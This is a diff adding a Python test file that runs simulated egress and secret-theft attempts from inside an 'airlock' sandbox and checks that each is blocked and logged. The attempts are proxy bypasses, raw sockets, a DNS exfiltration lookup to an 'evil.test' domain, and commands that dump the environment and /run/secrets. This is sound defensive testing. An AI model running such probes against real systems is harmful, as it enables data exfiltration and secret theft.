@@ -1,0 +1,236 @@
+#!/usr/bin/env python3
+"""Egress attacks from inside a real sandbox (`airlock run --network proxy`
+with the real proxy), as root and, when run as root, again as an
+unprivileged user (rootless): the allowed path works through the proxy
+variables; `--noproxy '*'`, `NO_PROXY=*`, raw TCP, UDP and IPv6 find no
+route; the sandbox's resolver answers only allowed names and the test
+resolver never sees the others; an injection route adds the key while the
+sandbox's environment and files never hold it; each request that reached
+the proxy left exactly one record.
+
+usage: sandbox_test.py BIN_DIR
+"""
+import json
+import os
+import pwd
+import shutil
+import subprocess
+import sys
+import time
+
+sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+import egress_test as et  # noqa: E402  (upstreams, certificates, resolver)
+
+TEST_USER = os.environ.get("AIRLOCK_TEST_USER", "airlock-test")
+T = et.TMP
+os.chmod(T, 0o755)
+
+
+def ensure_user():
+    try:
+        return pwd.getpwnam(TEST_USER)
+    except KeyError:
+        subprocess.run(["useradd", "--system", "--no-create-home", "--shell", "/usr/sbin/nologin", TEST_USER],
+                       check=True)
+        return pwd.getpwnam(TEST_USER)
+
+
+class Mode:
+    def __init__(self, name, user):
+        self.name = name
+        self.user = user
+        self.dir = os.path.join(T, name)
+        os.makedirs(self.dir)
+        self.state = os.path.join(self.dir, "state")
+        os.makedirs(self.state, mode=0o700)
+        if user:
+            for d in (self.dir, self.state):
+                os.chown(d, user.pw_uid, user.pw_gid)
+        self.log = os.path.join(self.dir, "egress.log")
+        self.seen = 0
+        self.degraded = []
+
+    def prefix(self):
+        if not self.user:
+            return []
+        return ["setpriv", "--reuid=%d" % self.user.pw_uid, "--regid=%d" % self.user.pw_gid, "--init-groups",
+                "env", "HOME=" + self.dir]
+
+    def secret_set(self, name, value):
+        r = subprocess.run(self.prefix() + [BIN_AIRLOCK, "secret", "set", name, "--state-dir", self.state],
+                           input=value.encode(), capture_output=True)
+        et.check(r.returncode == 0, "[%s] secret set: %s" % (self.name, r.stderr))
+
+    def run(self, script, cfg, extra=()):
+        cmd = self.prefix() + [BIN_AIRLOCK, "run", *self.degraded, "--network", "proxy", "--config", cfg,
+                               "--egress-log", self.log, "--state-dir", self.state, *extra, "--", "sh", "-c", script]
+        return subprocess.run(cmd, capture_output=True, text=True, timeout=60)
+
+    def new_records(self):
+        time.sleep(0.1)
+        try:
+            with open(self.log) as f:
+                recs = [json.loads(l) for l in f if l.strip()]
+        except FileNotFoundError:
+            recs = []
+        out = recs[self.seen:]
+        self.seen = len(recs)
+        return out
+
+
+def attacks(mode, cfg, port):
+    n = mode.name
+    url = "http://allowed.test:%d/inside" % port
+    # 0. the allowed path, through the proxy variables
+    r = mode.run('curl -sS --max-time 10 %s' % url, cfg)
+    et.check(r.returncode == 0 and "hello from GET /inside" in r.stdout,
+             "[%s] allowed request through the proxy (rc %d, %s %s)" % (n, r.returncode, r.stdout, r.stderr))
+    recs = mode.new_records()
+    et.check(len(recs) == 1 and recs[0]["verdict"] == "allow" and recs[0]["sandbox"],
+             "[%s] one allow record for it: %s" % (n, recs))
+
+    # 9. bypasses: no proxy, raw TCP, UDP, IPv6 -- no route at all
+    script = r'''
+curl -sS --max-time 5 --noproxy '*' %(url)s >/dev/null 2>&1 && echo NOPROXY-OK
+NO_PROXY='*' no_proxy='*' curl -sS --max-time 5 %(url)s >/dev/null 2>&1 && echo NO_PROXY-OK
+python3 - <<'PY'
+import socket, errno
+def tcp(fam, addr):
+    s = socket.socket(fam, socket.SOCK_STREAM); s.settimeout(3)
+    try:
+        s.connect(addr); print("TCP-OK", addr)
+    except OSError as e:
+        print("tcp", addr, errno.errorcode.get(e.errno, e.errno))
+tcp(socket.AF_INET, ("127.0.0.2", %(port)d))
+tcp(socket.AF_INET, ("1.1.1.1", 443))
+tcp(socket.AF_INET6, ("2606:4700:4700::1111", 443))
+tcp(socket.AF_INET, ("198.18.0.1", %(port)d))
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+try:
+    u.sendto(b"x", ("8.8.8.8", 53)); print("UDP-OK")
+except OSError as e:
+    print("udp", errno.errorcode.get(e.errno, e.errno))
+try:
+    socket.socket(socket.AF_PACKET, socket.SOCK_RAW); print("RAW-OK")
+except OSError as e:
+    print("raw", errno.errorcode.get(e.errno, e.errno))
+PY
+ip route 2>/dev/null | wc -l
+''' % {"url": url, "port": port}
+    r = mode.run(script, cfg)
+    out = r.stdout
+    et.check("NOPROXY-OK" not in out, "[%s] curl --noproxy '*' fails: %s" % (n, out))
+    et.check("NO_PROXY-OK" not in out, "[%s] NO_PROXY=* fails" % n)
+    et.check("TCP-OK" not in out and out.count("ENETUNREACH") >= 4, "[%s] raw TCP/IPv6 unreachable: %s" % (n, out))
+    et.check("UDP-OK" not in out, "[%s] UDP out fails" % n)
+    et.check("RAW-OK" not in out, "[%s] no raw packet socket" % n)
+    recs = mode.new_records()
+    et.check(len(recs) == 0, "[%s] the bypass attempts never reached the proxy: %s" % (n, recs))
+
+    # 5. DNS from inside: allowed names get the synthetic address; others NXDOMAIN and never leave
+    token = "ZXhmaWw" + os.urandom(4).hex()
+    r = mode.run("getent hosts allowed.test; getent hosts %s.evil.test || echo NXDOMAIN; cat /etc/resolv.conf" % token,
+                 cfg)
+    et.check("198.18.0.1" in r.stdout and "NXDOMAIN" in r.stdout and "nameserver 127.0.0.1" in r.stdout,
+             "[%s] sandbox resolver: %s %s" % (n, r.stdout, r.stderr))
+    recs = mode.new_records()
+    dns = [x for x in recs if x.get("kind") == "dns"]
+    et.check(any(x["verdict"] == "deny" and token.lower() in x.get("host", "") for x in dns),
+             "[%s] the exfiltration lookup was recorded as denied: %s" % (n, dns))
+    with open(et.QUERY_LOG) as f:
+        et.check(token.lower() not in f.read().lower(), "[%s] the lookup never reached a resolver" % n)
+
+    # a denied host through the proxy: 403 with the reason, one record
+    r = mode.run("curl -sS -o /dev/null -w '%%{http_code}' --max-time 5 http://other.test:%d/" % port, cfg)
+    et.check(r.stdout.strip() == "403", "[%s] denied host answered 403 (%s)" % (n, r.stdout))
+    recs = mode.new_records()
+    et.check(len(recs) == 1 and recs[0]["verdict"] == "deny", "[%s] one deny record: %s" % (n, recs))
+
+    # injection route: the key reaches the upstream, never the sandbox
+    before = len(et.UPSTREAM_SEEN)
+    script = r'''
+curl -sS --max-time 10 -X POST -d '{"m":1}' http://127.0.0.1:3128/llm/v1/messages
+echo; env; cat /run/secrets/* 2>/dev/null; ls -la /run 2>&1
+grep -rs "%s" /tmp /etc /run /proc/self/environ "$HOME" >/dev/null && echo SECRET-VISIBLE
+''' % et.SECRET
+    r = mode.run(script, cfg)
+    et.check("hello from POST /v1/messages" in r.stdout, "[%s] route works from inside: %s %s" % (n, r.stdout,
+                                                                                             r.stderr))
+    et.check(len(et.UPSTREAM_SEEN) == before + 1 and
+             {k.lower(): v for k, v in et.UPSTREAM_SEEN[-1][2].items()}.get("x-api-key") == et.SECRET,
+             "[%s] upstream got the key" % n)
+    et.check(et.SECRET not in r.stdout and et.SECRET not in r.stderr and "SECRET-VISIBLE" not in r.stdout,
+             "[%s] the key is nowhere in the sandbox" % n)
+    recs = mode.new_records()
+    et.check(len(recs) == 1 and recs[0]["kind"] == "route", "[%s] one route record: %s" % (n, recs))
+    with open(mode.log) as f:
+        et.check(et.SECRET not in f.read(), "[%s] the key is not in the records" % n)
+
+
+def main():
+    global BIN_AIRLOCK
+    et.make_certs()
+    bindir = os.path.join(T, "bin")
+    os.makedirs(bindir)
+    for b in ("airlock", "airlock-node"):
+        shutil.copy(os.path.join(et.BIN, b), bindir)
+    os.chmod(bindir, 0o755)
+    BIN_AIRLOCK = os.path.join(bindir, "airlock")
+    for f in ("ca.pem",):
+        os.chmod(os.path.join(T, f), 0o644)
+    port = et.free_port()
+    tls_port = et.free_port()
+    import ssl
+    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+    tls.load_cert_chain(os.path.join(T, "srv.pem"), os.path.join(T, "srv.key"))
+    servers = [et.serve(port), et.serve(tls_port, tls)]
+    names = {"allowed.test": [et.UP], "api.test": [et.UP], "other.test": [et.UP]}
+    with open(os.path.join(T, "names.json"), "w") as f:
+        json.dump(names, f)
+    et.QUERY_LOG = os.path.join(T, "queries.log")
+    dns_port = et.free_port()
+    ready = os.path.join(T, "resolver.ready")
+    et.PROCS.append(subprocess.Popen([sys.executable, os.path.join(et.HERE, "test_resolver.py"), "127.0.0.1",
+                                      str(dns_port), os.path.join(T, "names.json"), et.QUERY_LOG, ready]))
+    for _ in range(100):
+        if os.path.exists(ready):
+            break
+        time.sleep(0.05)
+    os.chmod(et.QUERY_LOG, 0o644)
+    cfg = os.path.join(T, "sandbox.json")
+    with open(cfg, "w") as f:
+        json.dump({"network": {
+            "mode": "proxy", "allow": ["allowed.test:%d" % port], "allowAddresses": [et.UP],
+            "resolver": "127.0.0.1:%d" % dns_port, "upstreamCa": os.path.join(T, "ca.pem"),
+            "inject": [{"path": "/llm/", "upstream": "https://api.test:%d" % tls_port,
+                        "inject": {"header": "x-api-key", "secret": "anthropic"}}]}}, f)
+    os.chmod(cfg, 0o644)
+    modes = [Mode("root", None)] if os.geteuid() == 0 else [Mode("user", None)]
+    if os.geteuid() == 0:
+        modes.append(Mode("rootless", ensure_user()))
+    for m in modes:
+        m.secret_set("anthropic", et.SECRET)
+        probe = subprocess.run(m.prefix() + [BIN_AIRLOCK, "run", "--", "true"], capture_output=True)
+        if probe.returncode != 0:
+            m.degraded = ["--allow-degraded"]  # no delegated cgroup for this user
+        print("-- sandbox attacks as", m.name, flush=True)
+        attacks(m, cfg, port)
+    for s in servers:
+        s.shutdown()
+    print("sandbox_test: %d checks passed, %d failed" % (et.PASSES, len(et.FAILS)))
+    return 1 if et.FAILS else 0
+
+
+if __name__ == "__main__":
+    rc = 1
+    try:
+        rc = main()
+    finally:
+        for p in et.PROCS:
+            if p.poll() is None:
+                p.kill()
+        if rc == 0 and os.environ.get("KEEP_TMP") != "1":
+            shutil.rmtree(T, ignore_errors=True)
+        else:
+            print("kept", T)
+    sys.exit(rc)
